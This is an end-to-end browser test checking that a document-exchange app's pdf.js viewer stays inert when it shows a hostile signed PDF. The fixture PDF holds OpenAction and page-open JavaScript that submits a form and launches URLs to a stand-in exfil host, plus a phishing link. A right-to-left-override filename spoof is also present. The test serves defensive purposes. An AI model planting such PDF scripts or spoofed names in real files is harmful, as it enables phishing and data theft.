// The document page's PDF viewer in headless Chromium against a real service: a sender's PDF that
// carries OpenAction JavaScript (app.alert, this.submitForm, app.launchURL), a page-open action
// and a /URI link over the letter. The viewer draws it with pdf.js under the UI's CSP (no CSP
// violation, the page really drawn), and clicking the link area only shows the target: no
// dialog, the app's URL unchanged, no request and no tab towards the link's or the scripts' hosts.
// The same run checks that user text holding right-to-left letters is isolated in a <bdi>.
import { join } from 'node:path';
import { PDFDocument, PDFName, PDFString, type PDFDict } from 'pdf-lib';
import type { Browser, Page, Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { joinDocument } from '../../src/pades/complete.js';
import { signPdf } from '../../src/pades/sign.js';
import { HEALTH_DEPT, type Harness } from '../http/harness.js';
import { fixtureSigner, sampleLetter } from '../support/fixtures.js';
import { demoUsernames, launchChromium, screenshotDir, sendFromProvince, signIn, startUiServer, type Session, type UiServer } from './browser.js';

/** Hosts the hostile PDF points at (.invalid: never resolvable, RFC 6761). */
const PHISH = 'phish.invalid';
const EXFIL = 'exfil.invalid';
const LINK = `http://${PHISH}/dang-nhap?ref=docaxis`;
/** The link's rectangle on page 1, in PDF user space (origin bottom left). */
const LINK_RECT = [72, 640, 420, 720] as const;

/** The sample letter with PDF JavaScript and a /URI link added, then signed and sealed like any letter. */
async function hostileLetter(): Promise<Uint8Array> {
  const doc = await PDFDocument.load((await sampleLetter({ extraPages: 2 })).pdf);
  const ctx = doc.context;
  const js = (code: string) => ctx.register(ctx.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) }));
  doc.catalog.set(PDFName.of('OpenAction'), js(`app.alert("openaction ran"); this.submitForm("http://${EXFIL}/submit"); app.launchURL("http://${EXFIL}/launch", true);`));
  // Document-level scripts (the /Names /JavaScript tree) run on open in Acrobat and pdf.js's viewer.
  const names = ctx.obj({ Names: [PDFString.of('docaxis'), js('app.alert("names tree ran");')] });
  doc.catalog.set(PDFName.of('Names'), ctx.obj({ JavaScript: names }));
  const page = doc.getPage(0);
  page.node.set(PDFName.of('AA'), ctx.obj({ O: js(`app.alert("page open ran"); app.launchURL("http://${EXFIL}/page-open", true);`) }));
  const link = ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [...LINK_RECT], Border: [0, 0, 0], F: 4, A: ctx.obj({ S: 'URI', URI: PDFString.of(LINK) }) }));
  page.node.addAnnot(link);
  const unsigned = await doc.save({ useObjectStreams: false });
  const signed = joinDocument(await signPdf(unsigned, fixtureSigner('signer-nguyen-van-an'), { fieldName: 'ChuTich', reason: 'Ký ban hành' }));
  return joinDocument(await signPdf(signed, fixtureSigner('seal-ubnd-thai-binh'), { fieldName: 'VanThu', reason: 'Văn thư ký số' }));
}

/** The catalog of the signed file still holds the scripts: the test is about the viewer, not a filter. */
async function assertHostile(pdf: Uint8Array): Promise<{ width: number; height: number }> {
  const doc = await PDFDocument.load(pdf);
  const open = doc.catalog.lookup(PDFName.of('OpenAction')) as PDFDict;
  expect(String(open.get(PDFName.of('S')))).toBe('/JavaScript');
  expect(Buffer.from(pdf).includes(Buffer.from(`/URI (${LINK})`))).toBe(true);
  return doc.getPage(0).getSize();
}

describe('PDF viewer: nothing in a sent PDF acts on the app', () => {
  let server: UiServer;
  let h: Harness;
  let base: string;
  let browser: Browser;
  let pageSize: { width: number; height: number };
  let hostileId: string;
  let rtlId: string;
  const sessions: Session[] = [];

  beforeAll(async () => {
    server = await startUiServer();
    ({ h, base } = server);
    browser = await launchChromium();
    const pdf = await hostileLetter();
    pageSize = await assertHostile(pdf);
    hostileId = await sendFromProvince(h, pdf, { subject: 'V/v văn bản có liên kết và mã JavaScript' });
    rtlId = await sendFromProvince(h, pdf, { subject: 'V/v tài liệu tiếng Ả Rập شكرا 123 và tiếng Do Thái שלום' });
  }, 120_000);
  afterAll(async () => {
    for (const s of sessions) await s.context.close();
    await browser?.close();
    await server?.close();
  });

  const open = async () => {
    const s = await signIn(browser, base, demoUsernames(h).clerk(HEALTH_DEPT));
    sessions.push(s);
    return s;
  };

  /** Everything the page says about CSP, dialogs, errors, requests and new tabs. */
  const watch = (s: Session) => {
    const seen = { dialogs: [] as string[], csp: [] as string[], errors: [] as string[], requests: [] as string[], popups: 0 };
    s.page.on('dialog', (d) => {
      seen.dialogs.push(d.message());
      void d.dismiss();
    });
    s.page.on('console', (m) => {
      if (/Content Security Policy|Refused to/i.test(m.text())) seen.csp.push(m.text());
    });
    s.page.on('pageerror', (e) => seen.errors.push(String(e)));
    s.context.on('request', (r: Request) => seen.requests.push(r.url()));
    s.context.on('page', () => (seen.popups += 1));
    return seen;
  };

  /** Pixels of page 1's canvas that are not near white (evaluated in the page: a string, so vite leaves it alone). */
  const nonWhitePixels = (page: Page) =>
    page.evaluate(`(() => {
      const c = document.querySelector('[data-page="1"] canvas');
      const data = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
      let n = 0;
      for (let i = 0; i < data.length; i += 4) if (data[i] < 200 || data[i + 1] < 200 || data[i + 2] < 200) n++;
      return n;
    })()`) as Promise<number>;

  it('draws the PDF with pdf.js under the CSP: canvases, no frame, no embed, no CSP violation', async () => {
    const s = await open();
    const seen = watch(s);
    const { page } = s;
    await page.goto(`${base}/#/documents/${hostileId}`);
    await page.locator('[data-page="1"][data-rendered="yes"]').waitFor({ timeout: 60_000 });
    expect(await page.getByTestId('pdf-view').locator('[data-hash]').getAttribute('data-hash')).toBe('match');
    expect(await page.locator('iframe, embed, object').count()).toBe(0);
    // The letter's text really is drawn (a blank canvas would pass every safety check).
    expect(await nonWhitePixels(page)).toBeGreaterThan(2000);
    expect(seen.requests.filter((u) => u.includes('/vendor/pdfjs/pdf.worker.min.mjs')).length).toBe(1);
    // Every page is laid out; the last is drawn once it is scrolled into view.
    await expect.poll(() => page.locator('.pdf-page').count()).toBe(3);
    await page.locator('[data-page="3"]').scrollIntoViewIfNeeded();
    await page.locator('[data-page="3"][data-rendered="yes"]').waitFor({ timeout: 30_000 });
    expect(seen.csp).toEqual([]);
    expect(seen.errors).toEqual([]);
    const csp = (await page.request.get(`${base}/`)).headers()['content-security-policy'] ?? '';
    expect(csp).not.toMatch(/unsafe-eval|unsafe-inline/);
    expect(csp).toContain("frame-src 'none'");
  });

  it('clicking the link area shows its target and opens nothing: no dialog, same URL, no request or tab to its host', async () => {
    const s = await open();
    const seen = watch(s);
    const { page } = s;
    await page.goto(`${base}/#/documents/${hostileId}`);
    const first = page.locator('[data-page="1"][data-rendered="yes"]');
    await first.waitFor({ timeout: 60_000 });
    const before = page.url();
    // The middle of the link's rectangle, mapped from PDF space onto the drawn page.
    const box = (await first.locator('canvas').boundingBox())!;
    const scale = box.width / pageSize.width;
    const x = box.x + ((LINK_RECT[0] + LINK_RECT[2]) / 2) * scale;
    const y = box.y + (pageSize.height - (LINK_RECT[1] + LINK_RECT[3]) / 2) * scale;
    await page.mouse.click(x, y);
    await expect.poll(() => page.getByTestId('pdf-link-target').textContent()).toBe(LINK);
    await page.getByTestId('pdf-view').screenshot({ path: join(screenshotDir(), 'pdf-viewer-link-shown.png') });
    // Give anything the click might have started time to show.
    await page.waitForTimeout(1500);
    expect(page.url()).toBe(before);
    expect(seen.dialogs).toEqual([]);
    expect(seen.popups).toBe(0);
    expect(seen.requests.filter((u) => u.includes(PHISH) || u.includes(EXFIL))).toEqual([]);
    // Opening it is a second, deliberate step: a new tab that cannot reach this one.
    const openLink = page.locator('[data-action="open-pdf-link"]');
    expect(await openLink.getAttribute('href')).toBe(LINK);
    expect(await openLink.getAttribute('target')).toBe('_blank');
    expect((await openLink.getAttribute('rel'))?.split(' ').sort()).toEqual(['noopener', 'noreferrer']);
    expect(seen.csp).toEqual([]);
  });

  it('/docs: swagger-ui runs under its CSP (no violation, the API listed) and no other page can frame it', async () => {
    const s = await open();
    const seen = watch(s);
    const { page } = s;
    await page.goto(`${base}/docs/`);
    await expect.poll(() => page.locator('.swagger-ui .info .title').textContent(), { timeout: 30_000 }).toContain('docaxis exchange axis');
    await page.locator('.opblock').first().waitFor();
    expect(seen.csp).toEqual([]);
    expect(seen.errors).toEqual([]);
    // A page of another origin (localhost is not 127.0.0.1) puts /docs in a frame: Chromium refuses.
    await page.goto(`${base.replace('127.0.0.1', 'localhost')}/health`);
    await page.setContent(`<iframe id="f" src="${base}/docs/"></iframe>`);
    await expect.poll(() => seen.csp.some((m) => m.includes("frame-ancestors 'none'"))).toBe(true);
    // The refused frame's URL turns to Chromium's error page a moment after the CSP report.
    await expect.poll(() => page.frames().find((f) => f !== page.mainFrame())?.url() ?? '', { timeout: 10_000 }).toMatch(/^chrome-error:/);
    const framed = page.frames().find((f) => f !== page.mainFrame());
    expect(await framed?.evaluate('document.title').catch(() => '')).not.toBe('Swagger UI');
  });

  it('user text with right-to-left letters is isolated in a <bdi>; a stored bidi control shows as a visible marker', async () => {
    const s = await open();
    const { page } = s;
    await page.goto(`${base}/#/inbox`);
    const row = page.locator('bdi', { hasText: 'שלום' }).first();
    await row.waitFor();
    expect(await row.textContent()).toBe('V/v tài liệu tiếng Ả Rập شكرا 123 và tiếng Do Thái שלום');
    await page.goto(`${base}/#/documents/${rtlId}`);
    await page.locator('bdi', { hasText: 'شكرا' }).first().waitFor();
    // dom.ts on a text that the service would refuse today (rows stored before issue 11).
    // The compiled module the UI itself loads (src/web/dom.ts), imported in the page.
    const shown = (await page.evaluate(`(async () => {
      const dom = await import('/app/dom.js');
      const p = dom.h('p', {}, 'Tệp: ', 'RTL \u202egnp.exe\u202c', ' — ', 'plain');
      const opt = dom.h('option', {}, 'שלום');
      return { html: p.innerHTML, optionDir: opt.getAttribute('dir') };
    })()`)) as { html: string; optionDir: string | null };
    expect(shown.html).toBe('Tệp: <bdi>RTL [U+202E]gnp.exe[U+202C]</bdi> — plain');
    expect(shown.optionDir).toBe('auto');
  });
});
